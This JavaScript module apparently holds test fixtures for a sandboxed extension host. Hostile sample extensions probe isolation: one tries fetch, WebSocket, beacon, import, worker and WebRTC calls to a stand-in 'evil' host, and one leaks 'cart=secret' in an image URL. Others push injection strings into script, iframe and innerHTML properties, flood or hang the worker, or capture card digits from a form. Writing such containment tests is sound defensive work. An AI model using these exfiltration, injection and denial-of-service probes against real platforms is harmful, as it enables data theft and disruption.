/* global SharedWorker, navigator, caches, localStorage, parent, Notification, WebSocket, XMLHttpRequest, EventSource, Worker, Blob, importScripts, indexedDB, RTCPeerConnection, WebTransport, self, BroadcastChannel */
// Extensions of strangers, as functions whose text is their code. They run in a worker's scope, with what `start` puts
// there, so the compiler cannot know their names.

/** What every one of them has. */
function start() {
  self.say = (/** @type {unknown[]} */ ...message) => self.postMessage(JSON.stringify(message));
  self.draw = (/** @type {unknown} */ child) => self.say('mutate', [[0, '~', child, 0]]);
  self.node = (/** @type {string} */ id, /** @type {string} */ element, properties = {}, children = []) => ({
    ...{ id, type: 1, element, properties, children },
  });
  self.words = (/** @type {string} */ id, /** @type {string} */ data) => ({ id, type: 3, data });
  self.hear = (/** @type {(kind: string, ...rest: any[]) => void} */ listener) =>
    self.addEventListener('message', ({ data }) => typeof data === 'string' && listener(...JSON.parse(data)));
}

/** Puts what the page sends into every place that takes text, and into every place of the wire. */
function vectors() {
  const nodes = {
    ...{
      heading: ['level'],
      text: ['size', 'tone'],
      link: ['href'],
      image: ['src', 'alt', 'width'],
      icon: ['name', 'label'],
    },
    ...{
      badge: ['tone'],
      banner: ['heading', 'tone'],
      button: ['label', 'type', 'variant'],
      progress: ['label', 'value'],
    },
    ...{ 'text-field': ['label', 'hint', 'error', 'value', 'type', 'name'], 'text-area': ['label', 'value', 'rows'] },
    ...{
      checkbox: ['label', 'error'],
      disclosure: ['summary', 'open'],
      money: ['amount', 'currency'],
      form: ['label'],
    },
    ...{ 'number-field': ['label', 'value', 'min'], box: ['padding', 'style', 'className', 'innerHTML', 'onclick'] },
  };
  let count = 0;
  const id = () => `v${(count += 1)}`;
  const of = (/** @type {string} */ text) => [
    self.node(id(), 'stack', {}, [self.words(id(), text)]),
    self.node(id(), 'heading', {}, [self.words(id(), text)]),
    self.node(id(), 'button', {}, [self.words(id(), text)]),
    ...Object.entries(nodes).map(([name, keys]) =>
      self.node(id(), name, Object.fromEntries(keys.map((key) => [key, text])), []),
    ),
    self.node(id(), 'select', { label: text, options: [{ value: text, label: text }], value: text }),
    self.node(id(), 'radio-group', { label: text, options: [{ value: text, label: text }] }),
    { ...self.node(id(), 'stack'), attributes: { [text]: text, onclick: text, style: text, id: text, class: text } },
    { ...self.node(id(), 'button', { label: 'x', [text]: text }), eventListeners: { [text]: { fn: 1 }, press: text } },
    self.node(id(), text, { src: text, href: text, innerHTML: text }),
    self.node(text, 'text', {}, [self.words(`${text}t`, text)]),
    ...[
      'script',
      'iframe',
      'img',
      'a',
      'svg',
      'style',
      'object',
      'embed',
      'base',
      'meta',
      'link-x',
      'template',
      'form-x',
    ].map((name) =>
      self.node(id(), name, { src: text, href: text, srcdoc: text, innerHTML: text }, [self.words(id(), text)]),
    ),
  ];
  // A batch is too small for eighty of these.
  const ofLong = (/** @type {string} */ text) => [
    self.node(id(), 'text', {}, [self.words(id(), text)]),
    self.node(id(), 'text-field', { label: text, value: text, innerHTML: text }),
    self.node(id(), 'link', { href: text }, [self.words(id(), text)]),
    self.node(id(), 'image', { src: text, alt: text }),
    self.node(id(), 'script', { src: text, innerHTML: text }, [self.words(id(), text)]),
  ];
  self.draw(self.node('home', 'stack', {}, [self.words('begin', 'ready')]));
  let standing = 0;
  self.hear((kind, texts) => {
    if (kind !== 'message') return;
    const removals = Array.from({ length: standing }, () => [1, 'home', 0]);
    const children = texts.map((/** @type {string} */ text) =>
      self.node(id(), 'box', {}, text.length > 700 ? ofLong(text) : of(text)),
    );
    standing = children.length;
    self.say('mutate', [
      ...removals,
      ...children.map((/** @type {unknown} */ child, /** @type {number} */ n) => [0, 'home', child, n]),
    ]);
    self.say(
      'mutate',
      texts.flatMap((/** @type {string} */ text) => [
        [text, '~', text],
        [3, 'home', text, text],
        [3, text, text, text],
        [2, text, text],
        [0, text, text, text],
      ]),
    );
    self.say('call', 'home', texts[0]);
    self.say('action', 'drawn', null);
  });
}

/** Tries every way out that a worker knows. */
function ways(/** @type {string} */ evil, /** @type {number} */ udp) {
  /** @type {Record<string, string>} */
  const found = {};
  const within = (/** @type {Promise<unknown>} */ promise) =>
    Promise.race([promise, new Promise((_, no) => setTimeout(() => no('no answer'), 3000))]);
  const attempt = (/** @type {string} */ name, /** @type {() => unknown} */ act) =>
    within(Promise.resolve().then(act)).then(
      () => (found[name] = 'open'),
      (error) => (found[name] = `closed: ${String(error?.name ?? error)}`),
    );
  const event = (/** @type {any} */ target, /** @type {string} */ good, /** @type {string} */ bad) =>
    new Promise((yes, no) => {
      target[`on${good}`] = yes;
      target[`on${bad}`] = no;
    });
  const none = () => Promise.reject('not there');
  const inWorker = (/** @type {string} */ code) =>
    event(new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))), 'message', 'error').then(
      ({ data }) => (data === 'open' ? data : Promise.reject(data)),
    );
  void Promise.all([
    attempt('fetch', () => fetch(`${evil}/fetch`, { mode: 'no-cors' })),
    attempt('fetch keepalive', () =>
      fetch(`${evil}/keep`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
    ),
    attempt('xhr', () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${evil}/xhr`);
      request.send();
      return event(request, 'load', 'error');
    }),
    attempt('websocket', () => event(new WebSocket(`${evil.replace('http', 'ws')}/ws`), 'open', 'error')),
    attempt('eventsource', () => event(new EventSource(`${evil}/es`), 'open', 'error')),
    attempt('importScripts', () => importScripts(`${evil}/is.js`)),
    attempt('import()', () => new Function('address', 'return import(address)')(`${evil}/imp.js`)),
    attempt('import() as it stands', () => import(`${evil}/imp.js`)),
    attempt('eval', () => (0, eval)('1')),
    attempt('nested worker', () =>
      inWorker(`fetch('${evil}/nested',{mode:'no-cors'}).then(()=>postMessage('open'),()=>postMessage('closed'))`),
    ),
    attempt('worker of an address', () => event(new Worker(`${evil}/worker.js`), 'message', 'error')),
    attempt('shared worker', () =>
      typeof SharedWorker === 'undefined' ? none() : new SharedWorker(`${evil}/shared.js`),
    ),
    attempt('webrtc', () =>
      typeof RTCPeerConnection === 'undefined'
        ? none()
        : new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] }).createOffer(),
    ),
    attempt('webtransport', () =>
      typeof WebTransport === 'undefined' ? none() : new WebTransport(`https://127.0.0.1:${udp}/wt`).ready,
    ),
    attempt('beacon', () => (navigator.sendBeacon ? navigator.sendBeacon(`${evil}/beacon`) || none() : none())),
    attempt('indexeddb', () => event(indexedDB.open('x'), 'success', 'error')),
    attempt('caches', () => caches.open('x')),
    attempt('caches by their prototype', () => {
      for (let at = self; at; at = Object.getPrototypeOf(at))
        for (const [name, { get }] of Object.entries(Object.getOwnPropertyDescriptors(at)))
          if (get && /cache/i.test(name)) return get.call(self).open('x');
      return none();
    }),
    attempt('caches of a nested worker', () => inWorker(`caches.open('x').then(()=>postMessage('open'),postMessage)`)),
    attempt('locks', () => navigator.locks.request('x', () => 1)),
    attempt('files', () => navigator.storage.getDirectory()),
    attempt('localStorage', () => (typeof localStorage === 'undefined' ? none() : localStorage.setItem('a', 'b'))),
    attempt('cookies', () => ('cookieStore' in self ? self.cookieStore.set('a', 'b') : none())),
    attempt('service worker', () => navigator.serviceWorker?.register('/sw.js') ?? none()),
    attempt('document', () => (typeof document === 'undefined' ? none() : document.title)),
    attempt('parent', () => (typeof parent === 'undefined' ? none() : parent.document)),
    attempt('window', () => (typeof window === 'undefined' ? none() : window.open(`${evil}/popup`))),
    attempt('navigation', () => {
      if (typeof document === 'undefined') self.location.href = `${evil}/nav`;
      return none();
    }),
    attempt('notification', () =>
      typeof Notification === 'undefined' || Notification.permission !== 'granted' ? none() : 1,
    ),
    attempt('broadcast to the page', () => {
      const channel = new BroadcastChannel('wb-test');
      channel.postMessage('broadcast');
      return none();
    }),
  ]).then(() => self.say('action', 'found', found));
  // A link and an image say something by their names alone.
  self.draw(
    self.node('s', 'stack', {}, [
      self.node('l', 'link', { href: `${evil.replace('evil', 'secret-in-a-name')}/` }, [self.words('t', 'Help')]),
      self.node('i', 'image', { src: `${evil}/pixel.png?cart=secret`, alt: 'x' }),
    ]),
  );
}

const sayHello = () => self.draw(self.node('t', 'text', {}, [self.words('w', 'Hello')]));

/** Those that hang, flood, or eat. */
const attacks = {
  'loop at start': () => {
    for (;;);
  },
  'loop later': () => {
    self.draw(self.node('t', 'text', {}, [self.words('w', 'Hello')]));
    setTimeout(() => {
      for (;;);
    }, 100);
  },
  'message flood': () => {
    for (;;) self.postMessage('["log","x"]');
  },
  'batch flood': () => {
    for (let n = 0; ; n += 1)
      self.say('mutate', [
        [0, '~', self.node(`n${n}`, 'divider'), 0],
        [1, '~', 0],
      ]);
  },
  'ten megabytes': () => self.say('log', 'x'.repeat(10_000_000)),
  'a cycle': () => {
    const cycle = [];
    cycle.push(cycle);
    self.postMessage(cycle);
  },
  'a transfer of 50 megabytes': () => self.postMessage(new ArrayBuffer(50_000_000)),
  'broken JSON': () => self.postMessage('],[{'),
  'deep JSON': () => self.postMessage('['.repeat(100_000) + ']'.repeat(100_000)),
  'too many nodes': () => {
    for (let n = 0; n < 3000; n += 500)
      self.say(
        'mutate',
        Array.from({ length: 500 }, (_, m) => [0, '~', self.node(`n${n + m}`, 'divider'), 0]),
      );
  },
  'too deep': () => {
    let child = self.node('x', 'box');
    for (let n = 0; n < 40; n += 1) child = self.node(`x${n}`, 'box', {}, [child]);
    self.draw(child);
  },
  'an error at start': () => {
    throw new Error('oh');
  },
  'a syntax error': null,
  'memory bomb': () => {
    // Bounded, since others work on this machine: 256 MB.
    const hoard = [];
    for (let n = 0; n < 256; n += 1) hoard.push(new Uint8Array(1_048_576).fill(n));
    self.draw(self.node('t', 'text', {}, [self.words('w', String(hoard.length))]));
    for (;;) hoard.reverse();
  },
};

/** Says on the wire whatever the page sends it. */
function echo() {
  self.draw(self.node('t', 'text', {}, [self.words('w', 'Hello')]));
  self.hear((kind, lines) => {
    if (kind !== 'message') return;
    for (const line of lines) self.postMessage(line);
    self.say('action', 'echoed', null);
  });
}

/**
 * A form that looks like the one for cards: in one field (5), in four (1 to 4), and in portions (8), with fields for words
 * between (6 and 7). It tells what it hears, and by which number.
 */
function cardForm() {
  let fn = 0;
  const field = (/** @type {string} */ id, /** @type {string} */ label) => ({
    ...self.node(id, 'text-field', { label, autocomplete: 'cc-number', type: 'password' }),
    eventListeners: { input: { fn: (fn += 1) }, change: { fn } },
  });
  const parts = ['p1', 'p2', 'p3', 'p4'].map((id) => field(id, 'Digits'));
  self.draw(
    self.node('f', 'form', {}, [
      ...[field('number', 'Card number'), field('note', 'Note'), ...parts],
      ...[field('more', 'Note'), field('portions', 'Digits, four by four')],
    ]),
  );
  self.hear((kind, call, its, payload) => {
    if (kind === 'message') self.say('mutate', [[3, 'portions', 'value', '']]);
    if (kind !== 'event') return;
    self.say('action', 'heard', [its, payload.value]);
    self.say('done', call);
  });
}

/** Asks through the page. */
function asks(/** @type {string} */ allowed, /** @type {string} */ evil) {
  self.draw(self.node('t', 'text', {}, [self.words('w', 'Hello')]));
  /** @type {string[]} */
  const answers = [];
  self.hear((kind, _call, ok, value) => {
    if (kind !== 'reply') return;
    answers.push(ok ? `${value.status} ${value.text}` : value);
    if (answers.length === 14) self.say('action', 'asked', answers);
  });
  const ask = (/** @type {unknown[]} */ ...its) => self.say('fetch', ...its);
  ask(1, `${evil}/broker`, {});
  ask(2, `${allowed}/redirect`, {});
  ask(3, `${allowed}/large`, {});
  for (let n = 4; n < 15; n += 1) ask(n, `${allowed}/ok`, { method: 'POST', body: 'hello' });
}

const code = (/** @type {Function | null} */ body, /** @type {unknown[]} */ ...given) =>
  // What turns TypeScript into JavaScript on the way here may keep names by a helper of its own.
  `self.__name=(its)=>its;(${start})();(${body})(${given.map((its) => JSON.stringify(its)).join(',')});`;

/** @param {{ evil: string, udp: number, allowed: string }} places @returns {Record<string, string>} code by the extension's id */
export const extensions = ({ evil, udp, allowed }) => ({
  hello: code(sayHello),
  // The code of these is another one in the store than the manifest says: from the start, and after a while.
  ...{ tampered: `${code(sayHello)}//1`, turncoat: `${code(sayHello)}//2` },
  vectors: code(vectors),
  ways: code(ways, evil, udp),
  echo: code(echo),
  'card-form': code(cardForm),
  asks: code(asks, allowed, evil),
  ...Object.fromEntries(
    Object.entries(attacks).map(([name, body]) => [
      name.replaceAll(' ', '-').toLowerCase(),
      body ? code(body) : 'this is no code',
    ]),
  ),
});

export const attackNames = Object.keys(attacks).map((name) => name.replaceAll(' ', '-').toLowerCase());
